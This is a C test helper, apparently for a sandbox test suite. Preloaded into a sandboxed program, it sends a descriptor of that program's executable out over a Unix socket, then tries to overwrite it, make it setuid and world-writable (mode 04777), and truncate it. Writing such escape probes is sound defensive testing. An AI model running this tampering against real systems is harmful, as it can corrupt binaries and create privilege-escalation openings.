/* takeover.c - tries to change the file of the program that started a cage; for own_file.sh.
 *
 *     takeover.so, preloaded: whoever runs as that file inside hands it out at the socket in TAKEOVER_SOCKET.
 *     takeover receive SOCKET: waits outside for it, says "got", and attacks when its standard input ends,
 *     which is when nobody runs the file any more. */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <unistd.h>

union control { char room[CMSG_SPACE(sizeof(int))]; struct cmsghdr align; };

static struct sockaddr_un address(const char *path)
{
	struct sockaddr_un name = { .sun_family = AF_UNIX };

	strncpy(name.sun_path, path, sizeof(name.sun_path) - 1);
	return name;
}

/* All that an owner can do to a file that it reaches by a link of /proc. */
static void attack(const char *link)
{
	int fd = open(link, O_WRONLY | O_CLOEXEC);

	if (fd >= 0 && pwrite(fd, "taken", 5, 0) == 5)
		printf("written\n");
	if (chmod(link, 04777) == 0)
		printf("mode changed\n");
	if (truncate(link, 5) == 0)
		printf("truncated\n");
	if (fd >= 0)
		close(fd);
}

static int receive(const char *path)
{
	struct sockaddr_un name = address(path);
	int listener = socket(AF_UNIX, SOCK_STREAM, 0), peer, fd = -1;
	char link[64], byte;
	union control control;
	struct iovec bytes = { &byte, 1 };
	struct msghdr message = { .msg_iov = &bytes, .msg_iovlen = 1, .msg_control = control.room,
				  .msg_controllen = sizeof(control.room) };

	if (bind(listener, (struct sockaddr *)&name, sizeof(name)) < 0 || listen(listener, 1) < 0)
		return 2;
	chmod(path, 0666);
	printf("ready\n");
	fflush(stdout);
	peer = accept(listener, NULL, NULL);
	if (peer < 0 || recvmsg(peer, &message, MSG_CMSG_CLOEXEC) != 1)
		return 2;
	if (CMSG_FIRSTHDR(&message))
		memcpy(&fd, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof(fd));
	printf("got\n");
	fflush(stdout);
	while (read(0, &byte, 1) > 0)
		;
	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
	attack(link);
	printf("end\n");
	return 0;
}

static void hand_out(const char *path)
{
	struct sockaddr_un name = address(path);
	int fd = open("/proc/self/exe", O_PATH), peer = socket(AF_UNIX, SOCK_STREAM, 0);
	union control control = { 0 };
	struct iovec bytes = { "x", 1 };
	struct msghdr message = { .msg_iov = &bytes, .msg_iovlen = 1, .msg_control = control.room,
				  .msg_controllen = sizeof(control.room) };
	struct cmsghdr *header = CMSG_FIRSTHDR(&message);

	header->cmsg_level = SOL_SOCKET;
	header->cmsg_type = SCM_RIGHTS;
	header->cmsg_len = CMSG_LEN(sizeof(int));
	memcpy(CMSG_DATA(header), &fd, sizeof(int));
	if (fd >= 0 && connect(peer, (struct sockaddr *)&name, sizeof(name)) == 0)
		(void)!sendmsg(peer, &message, 0);
	attack("/proc/self/exe");
}

__attribute__((constructor)) static void begin(void)
{
	char self[4096] = "";
	const char *path = getenv("TAKEOVER_SOCKET");

	/* Other programs of the cage, a shell for example, are none of our business. */
	if (path && (readlink("/proc/self/exe", self, sizeof(self) - 1) < 0 || !strstr(self, "/usr/")))
		hand_out(path);
}

int main(int argc, char **argv)
{
	return argc == 3 && strcmp(argv[1], "receive") == 0 ? receive(argv[2]) : 2;
}
